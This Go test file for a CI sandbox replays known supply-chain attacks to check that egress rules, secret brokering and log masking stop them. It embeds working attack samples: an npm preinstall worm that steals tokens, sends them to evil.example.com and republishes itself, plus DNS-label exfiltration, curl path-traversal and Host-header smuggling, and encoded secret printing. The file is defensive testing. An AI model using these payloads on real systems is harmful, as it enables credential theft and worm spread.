package runner

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	sallyport "github.com/sallyport-ci/sallyport"
	"github.com/sallyport-ci/sallyport/internal/yard/door"
	"github.com/sallyport-ci/sallyport/internal/yard/firewall"
	"github.com/sallyport-ci/sallyport/internal/yard/sandbox"
)

// Replays of published attacks. Each runs twice in real rooms, as the same steps: with what a
// project has by default, where it must get nothing, and as a control with the defence taken
// away, where it must get what it came for. docs/ESCAPES.md says which incident each is of.

// thief is all that the attacks talk to: a package registry, a host that a project may reach, and hosts
// of the attacker's, among them the name server of evil.example.com.
type thief struct {
	server *httptest.Server
	port   int
	token  string // with which the registry lets publish

	mu        sync.Mutex
	got       []string // what reached a host, as HOST METHOD TARGET BODY
	asked     []string // names that were looked up outside
	published []string
}

func newThief(t *testing.T, token string) *thief {
	t.Helper()
	th := &thief{token: token}
	th.server = httptest.NewServer(th)
	t.Cleanup(th.server.Close)
	th.port = int(netip.MustParseAddrPort(th.server.Listener.Addr().String()).Port())
	return th
}

func (th *thief) url(host string) string { return fmt.Sprintf("http://%s:%d", host, th.port) }

func (th *thief) lookup(_ context.Context, host string) ([]netip.Addr, error) {
	th.mu.Lock()
	defer th.mu.Unlock()
	th.asked = append(th.asked, host)
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

// ServeHTTP is the registry at npm.example.com, and elsewhere takes whatever it gets.
func (th *thief) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	host, _, _ := strings.Cut(r.Host, ":")
	name := strings.TrimPrefix(r.URL.Path, "/")
	th.mu.Lock()
	th.got = append(th.got, fmt.Sprintf("%s %s %s %s", host, r.Method, r.RequestURI, body))
	if host == "npm.example.com" && r.Method == http.MethodPut && r.Header.Get("Authorization") == "Bearer "+th.token {
		th.published = append(th.published, name)
	}
	th.mu.Unlock()
	if host != "npm.example.com" || r.Method != http.MethodGet {
		return
	}
	if pkg, _, ok := strings.Cut(name, "/-/"); ok {
		_, _ = w.Write(th.worm(pkg))
		return
	}
	at := "2020-01-01T00:00:00Z"
	if strings.HasPrefix(name, "fresh") {
		at = time.Now().UTC().Format(time.RFC3339)
	}
	sum := sha512.Sum512(th.worm(name))
	_ = json.NewEncoder(w).Encode(map[string]any{
		"name": name, "dist-tags": map[string]string{"latest": "1.0.0"}, "time": map[string]string{"created": at, "1.0.0": at},
		"versions": map[string]any{"1.0.0": map[string]any{"name": name, "version": "1.0.0", "hasInstallScript": true, "scripts": map[string]string{"preinstall": "node worm.js"}, "dist": map[string]string{
			"integrity": "sha512-" + base64.StdEncoding.EncodeToString(sum[:]), "tarball": th.url("npm.example.com") + "/" + name + "/-/" + name + "-1.0.0.tgz"}}},
	})
}

// worm is a package that collects what it finds before it is installed, sends it away, and
// publishes itself as another package with each token.
func (th *thief) worm(name string) []byte {
	script := `const home = require('os').homedir(), fs = require('fs')
let rc = ''; try { rc = fs.readFileSync(home + '/.npmrc', 'utf8') } catch {}
const loot = JSON.stringify(process.env) + rc
const tokens = new Set([process.env.TOKEN, ...rc.split('=')].filter(Boolean).map(s => s.trim()));
(async () => {
  console.error('WORM RUNS')
  await fetch('` + th.url("collect.evil.example.com") + `/', {method: 'POST', body: loot}).catch(() => {})
  for (const t of tokens)
    for (const at of new Set(['` + th.url("npm.example.com") + `/', process.env.npm_config_registry]))
      await fetch(at + 'victim', {method: 'PUT', headers: {authorization: 'Bearer ' + t}, body: '{}'}).catch(() => {})
})()
`
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	a := tar.NewWriter(z)
	for _, f := range [][2]string{{"package.json", fmt.Sprintf(`{"name":%q,"version":"1.0.0","scripts":{"preinstall":"node worm.js"}}`, name)}, {"worm.js", script}} {
		_ = a.WriteHeader(&tar.Header{Name: "package/" + f[0], Mode: 0o644, Size: int64(len(f[1])), Typeflag: tar.TypeReg})
		_, _ = io.WriteString(a, f[1])
	}
	_, _ = a.Close(), z.Close()
	return b.Bytes()
}

// reached tells whether a text came to a host of which no rule lets jobs send it there.
func (th *thief) reached(text string) bool {
	th.mu.Lock()
	defer th.mu.Unlock()
	return slices.ContainsFunc(th.got, func(s string) bool {
		plain, err := url.QueryUnescape(s)
		return strings.Contains(s, text) || err == nil && strings.Contains(plain, text)
	})
}

// learned tells whether the attacker's name server was asked for a name with the text in its labels.
func (th *thief) learned(text string) bool {
	th.mu.Lock()
	defer th.mu.Unlock()
	return slices.ContainsFunc(th.asked, func(name string) bool { return strings.Contains(strings.ReplaceAll(name, ".", ""), text) })
}

// setting is what a project lets its job do.
type setting struct {
	rules  sallyport.EgressRules
	expose bool // the secret's value is the job's, as it is without a broker
}

// byDefault is a project that names one host for reading and lends its secret at the door.
func (th *thief) byDefault() setting {
	return setting{rules: sallyport.EgressRules{Level: sallyport.EgressRegistries, Rules: []sallyport.EgressRule{
		{Host: "api.example.com", Ports: []int{th.port}, Methods: []string{"GET", "HEAD"}, Paths: []string{"/acme/"}}}}}
}

// replay runs the steps in a room of a level and returns the job's log as the control plane gets it.
func (th *thief) replay(t *testing.T, level, yaml string, s setting) ended {
	t.Helper()
	box := sandboxAt(t, level)
	yard := &recordingYard{fakeYard: newFakeYard()}
	tr := trial{yard: yard.fakeYard, secrets: map[string]string{}, yaml: steps(strings.NewReplacer("PORT", fmt.Sprint(th.port)).Replace(yaml))}
	lease := tr.lease(t)
	s.rules.Credentials = []sallyport.CredentialRule{{Name: "api", Secret: "TOKEN", Kind: sallyport.CredentialBearer, Host: "token.example.com", Expose: s.expose}}
	l := sallyport.LentSecret{Secret: "TOKEN", Value: th.token, Placeholder: "lent-placeholder-of-token"}
	lease.Egress, lease.Lent, lease.Secrets = s.rules, []sallyport.LentSecret{l}, map[string]string{"TOKEN": l.Placeholder}
	if s.expose {
		lease.Secrets["TOKEN"] = th.token
	}
	dialer := &door.Dialer{Private: door.Private{Nets: []netip.Prefix{netip.MustParsePrefix("127.0.0.0/8")}}, Lookup: th.lookup}
	upstreams, _, err := firewall.DiscoverWith(firewall.Host{FS: os.DirFS("/"), Env: func(string) string { return "" }},
		fmt.Appendf(nil, "npm: [{url: %q}]\ngo: []\npypi: []\ndebian: []\n", th.url("npm.example.com")))
	if err != nil {
		t.Fatal(err)
	}
	packages, err := firewall.New(firewall.Config{Upstreams: upstreams, Transport: dialer.Transport(nil), CacheDir: t.TempDir(), Now: time.Now, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	r := newTestRunner(t, yard, box, func(c *Config) { c.Path, c.Egress = "", Egress{Dialer: dialer, Firewall: packages} })
	r.layout = newLayout
	r.do(t.Context(), lease)
	e := ended{JobResult: <-yard.result, lines: decodeLog(t, yard.log), yard: yard.fakeYard}
	t.Cleanup(func() {
		if t.Failed() {
			t.Log(e.all(), th.got, th.asked)
		}
	})
	return e
}

// sandboxAt makes real rooms of a level; it skips where this host cannot.
func sandboxAt(t *testing.T, level string) sallyport.Sandbox {
	t.Helper()
	if level != sandbox.Strong {
		return realSandbox(t)
	}
	runsc, err := filepath.Abs("../../../bin/runsc")
	if err == nil {
		_, err = os.Stat(runsc)
	}
	if err != nil {
		if runsc, err = exec.LookPath("runsc"); err != nil {
			t.Skip("there is no runsc: make strong builds it")
		}
	}
	if os.Geteuid() != 0 {
		t.Skip("without root a strong room has no network")
	}
	s, err := sandbox.New(sandbox.Config{StateDir: t.TempDir(), Level: sandbox.Strong, Runtime: runsc})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close() })
	if _, err := s.Check(t.Context()); sallyport.ErrorCode(err) == sallyport.CodeUnavailable {
		t.Skipf("this host cannot isolate: %v", err)
	}
	return s
}

// eachLevel runs a replay at both levels.
func eachLevel(t *testing.T, needs []string, f func(t *testing.T, level string, th *thief)) {
	t.Parallel()
	for _, tool := range needs {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("there is no %s for the job", tool)
		}
	}
	for _, level := range []string{sandbox.Level, sandbox.Strong} {
		t.Run(level, func(t *testing.T) { f(t, level, newThief(t, newCanary("token"))) })
	}
}

// TestReplaySecretDump reads the memory of every process that there is, as the poisoned
// tj-actions/changed-files did (CVE-2025-30066), while a process that was started with the secret lives.
// The runner, this process, holds the value all the time.
func TestReplaySecretDump(t *testing.T) {
	eachLevel(t, []string{"python3"}, func(t *testing.T, level string, th *thief) {
		sum := sha256.Sum256([]byte(th.token))
		attack := `
- name: holds the secret
  env: {TOKEN: "${{ secrets.TOKEN }}"}
  run: |
    cat > scan.py <<'EOF'
` + indent(roomScanner, 4) + `
    EOF
    setsid python3 -c 'import time; time.sleep(3000)' > /dev/null 2>&1 &
- name: dumps it
  run: python3 scan.py ` + hex.EncodeToString([]byte(canaryMark)) + fmt.Sprint(" ", canaryLength, " ") + hex.EncodeToString(sum[:]) + "\n"
		s := th.byDefault()
		e := th.replay(t, level, attack, s)
		if text := e.text(); !strings.Contains(text, "scan done") || strings.Contains(text, "looked through nothing") || strings.Contains(text, "found canary") {
			t.Error("the dump found the value, or did not look")
		}
		s.expose = true
		if text := th.replay(t, level, attack, s).text(); !strings.Contains(text, "found canary 0 in ") {
			t.Error("the control does not show the attack")
		}
	})
}

// TestReplayPreinstallWorm installs a package whose preinstall script steals tokens and publishes itself
// with them, as Shai-Hulud did in 2025, by the real npm.
func TestReplayPreinstallWorm(t *testing.T) {
	eachLevel(t, []string{"npm", "node"}, func(t *testing.T, level string, th *thief) {
		attack := func(name string) string {
			return `
- env: {TOKEN: "${{ secrets.TOKEN }}"}
  run: |
    export npm_config_registry="${npm_config_registry:-` + th.url("npm.example.com") + `/}"
    echo "//npm.example.com:PORT/:_authToken=$TOKEN" > ~/.npmrc
    mkdir w; cd w; echo '{"name":"m","version":"1.0.0"}' > package.json
    npm install --no-audit --no-fund --foreground-scripts ` + name + ` && echo it is "installed" || echo it is "refused"
`
		}
		stolen := func() bool { return th.reached(th.token) || len(th.published) > 0 }
		fresh := th.replay(t, level, attack("fresh-worm"), th.byDefault())
		if text := fresh.text(); !strings.Contains(text, "it is refused") || strings.Contains(text, "WORM RUNS") || stolen() {
			t.Error("a package that was published today got in")
		}
		// One that nobody knows of and that is old enough runs, and gets nothing.
		old := th.replay(t, level, attack("old-worm"), th.byDefault())
		if text := old.text(); !strings.Contains(text, "WORM RUNS") || stolen() || th.reached("collect.evil.example.com") || th.learned("collect") || th.reached(" PUT ") {
			t.Error("the worm got away with something, or did not run")
		}
		open := setting{expose: true, rules: sallyport.EgressRules{Level: sallyport.EgressListed, Rules: []sallyport.EgressRule{
			{Host: "npm.example.com", Ports: []int{th.port}}, {Host: "collect.evil.example.com", Ports: []int{th.port}}}}}
		th.replay(t, level, attack("fresh-worm"), open)
		if !th.reached(th.token) || len(th.published) == 0 {
			t.Error("the control does not show the attack")
		}
	})
}

// TestReplayExfiltrationByDNS puts what it steals into the labels of names of a domain whose
// name server is the attacker's.
func TestReplayExfiltrationByDNS(t *testing.T) {
	eachLevel(t, []string{"python3"}, func(t *testing.T, level string, th *thief) {
		attack := `
- run: |
    cat > dns.py <<'EOF'
    import socket, sys
    loot = b'the source code'.hex()
    name = '%s.%s.evil.example.com' % (loot[:16], loot[16:])
    for n in (name, name + '.', name.upper(), loot + '.api.example.com'):
        try: socket.getaddrinfo(n, PORT)
        except OSError as e: print('lookup', e)
    q = b'\x12\x34\x01\x00\0\1\0\0\0\0\0\0' + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0\0\x10\0\1'
    for server in [l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')] + ['127.0.0.1', '192.0.2.53']:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
        try:
            s.sendto(q, (server, 53)); s.recv(512)
        except OSError: pass
    try: socket.create_connection((name, PORT), 5).close()
    except OSError as e: print('connect', e)
    print('attack done')
    EOF
    python3 dns.py
`
		loot := hex.EncodeToString([]byte("the source code"))
		e := th.replay(t, level, attack, th.byDefault())
		if !strings.Contains(e.text(), "attack done") || th.learned(loot) {
			t.Errorf("the name server learned %q", th.asked)
		}
		open := th.byDefault()
		open.rules.Rules = append(open.rules.Rules, sallyport.EgressRule{Host: "*.evil.example.com", Ports: []int{th.port}})
		th.replay(t, level, attack, open)
		if !th.learned(loot) {
			t.Error("the control does not show the attack")
		}
	})
}

// TestReplayExfiltrationByAnAllowedHost sends what it steals to a host that the project may read
// from, where others have places too, as a host of pastes or of repositories is.
func TestReplayExfiltrationByAnAllowedHost(t *testing.T) {
	eachLevel(t, []string{"curl"}, func(t *testing.T, level string, th *thief) {
		const attack = `
- run: |
    A=http://api.example.com:PORT
    c() { curl -sS -m 20 -o /dev/null --path-as-is "$@" || true; }
    c -d loot-1 $A/acme/issues
    c -X PUT -d loot-2 $A/acme/
    c "$A/thief/loot-3"
    c "$A/acme/../thief/loot-4"
    c "$A/acme/%2e%2e/thief/loot-5"
    c "$A/acme//../../thief/loot-6"
    c -H 'Host: collect.evil.example.com' "$A/acme/loot-7"
    c -H 'X-Original-URL: /thief/loot-8' -X POST $A/acme/
    c --http0.9 --request-target '/thief/loot-9' $A/acme/
    c -x $A http://collect.evil.example.com:PORT/loot-a
    c $A/acme/readme
    echo attack "done"
`
		e := th.replay(t, level, attack, th.byDefault())
		if !strings.Contains(e.text(), "attack done") || th.reached("loot-") {
			t.Errorf("what was stolen reached %q", th.got)
		}
		if !th.reached("api.example.com GET /acme/readme") {
			t.Error("what the project may do does not work")
		}
		open := th.byDefault()
		open.rules.Rules = []sallyport.EgressRule{{Host: "api.example.com", Ports: []int{th.port}}}
		th.replay(t, level, attack, open)
		for _, loot := range []string{"loot-1", "loot-2", "loot-3", "loot-9"} {
			if !th.reached(loot) {
				t.Errorf("the control does not show %s", loot)
			}
		}
	})
}

// TestReplayExfiltrationByLogs prints the secret in ways that a log does not mask by the value alone.
func TestReplayExfiltrationByLogs(t *testing.T) {
	eachLevel(t, []string{"python3"}, func(t *testing.T, level string, th *thief) {
		const attack = `
- env: {TOKEN: "${{ secrets.TOKEN }}"}
  run: |
    cat > print.py <<'EOF'
    import os, base64, sys
    v = os.environ['TOKEN']
    b = lambda s: base64.b64encode(s.encode()).decode()
    print('plain', v); print('base64', b(v)); print('inside', b('user:' + v + '\n')); print('twice', b(b(v)))
    print('hex', v.encode().hex()); print('json', '{"token":"%s"}' % v)
    sys.stdout.write('parts ' + v[:7]); sys.stdout.flush(); sys.stdout.write(v[7:] + '\n'); sys.stdout.flush()
    print('backwards', v[::-1]); print('spaced', ' '.join(v))
    print('attack done')
    EOF
    python3 print.py
`
		v := th.token
		b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
		backwards := []byte(v)
		slices.Reverse(backwards)
		masked := []string{v, b64(v), b64("user:" + v + "\n"), b64(b64(v)), hex.EncodeToString([]byte(v))}
		open := []string{string(backwards), strings.Join(strings.Split(v, ""), " ")} // no mask can know them all
		s := th.byDefault()
		text := th.replay(t, level, attack, s).all()
		if !strings.Contains(text, "attack done") {
			t.Error("the attack did not run")
		}
		for _, form := range slices.Concat(masked, open) {
			if strings.Contains(text, form) {
				t.Errorf("the log has %q of a secret that the job does not hold", form)
			}
		}
		s.expose = true
		text = th.replay(t, level, attack, s).all()
		for _, form := range masked {
			if strings.Contains(text, form) {
				t.Errorf("the log has %q", form)
			}
		}
		for _, form := range open {
			if !strings.Contains(text, form) {
				t.Errorf("the control does not show %q", form)
			}
		}
	})
}
